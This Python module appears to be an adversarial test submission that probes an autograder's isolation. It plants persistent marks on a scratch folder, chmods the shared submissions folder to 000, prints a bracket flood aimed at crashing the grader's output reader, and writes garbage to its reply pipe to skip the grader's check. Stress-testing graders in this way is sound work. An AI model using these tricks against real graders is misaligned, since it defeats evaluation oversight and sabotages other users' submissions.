"""The boundary: a module that leaves what of a test could outlive it on the scratch folder itself (its times and a
user.* attribute), breaks the box for every later submission where it can (as the grader's own user: chmod 000 of the
box's submissions folder), prints a line of deep brackets shaped like the worker's place marker (it killed the grader's
output reader), then writes garbage on its reply pipe (the one ending that skipped the grader's check), and says what
it found of an earlier test and what it left.

Appended after clean_state/marks.py, whose names it uses."""
# ruff: noqa: F821

import os
import stat

_honest = argmax_attention  # the reference's, defined above this part


def _reply_pipes() -> list[int]:
    """The pipes this process may write but its output (its reply pipe is one)."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            with open(f"/proc/self/fdinfo/{fd}") as info:
                writable = info.read().split("flags:")[1].split()[0][-1] in "12"
            if fd > 2 and writable and stat.S_ISFIFO(os.fstat(fd).st_mode):
                found.append(fd)
        except (OSError, ValueError, IndexError):
            continue
    return found


def argmax_attention(Q, K, V):
    found, done = marks_found(), []
    folder = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))  # the box's folder of staged submissions
    _try(done, "times", lambda: os.utime(_scratch(), ns=(MARK_TIME_NS, MARK_TIME_NS)))
    _try(done, "attribute", lambda: os.setxattr(_scratch(), MARK_XATTR, b"1"))
    _try(done, "chmod box", lambda: os.chmod(folder, 0))
    print(f"cross: found {found}; left {done}", flush=True)
    print("\n\x00autograder-stack " + "[" * 1800 + "]" * 1800, flush=True)
    for fd in _reply_pipes():
        try:
            os.write(fd, b"\xff" * 64)
        except OSError:
            continue
    return _honest(Q, K, V)
